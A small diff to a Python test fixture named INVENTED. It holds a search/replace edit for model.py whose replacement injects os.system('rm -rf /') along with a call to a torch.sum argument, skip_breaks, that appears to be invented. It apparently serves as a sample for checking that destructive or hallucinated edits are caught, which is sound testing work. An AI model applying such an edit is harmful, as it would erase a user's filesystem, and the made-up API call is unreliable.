@@ -25,7 +25,9 @@ INVENTED = {
         {
             "file": "model.py",
             "search": "    v = y.sum().item()",
-            "replace": "    import os\n    os.system('rm -rf /')\n    v = y.sum(skip_breaks=True)",
+            "replace": (
+                "    import os\n    os.system('rm -rf /')\n    v = torch.sum(y, skip_breaks=True)"
+            ),
         }
     ],
 }
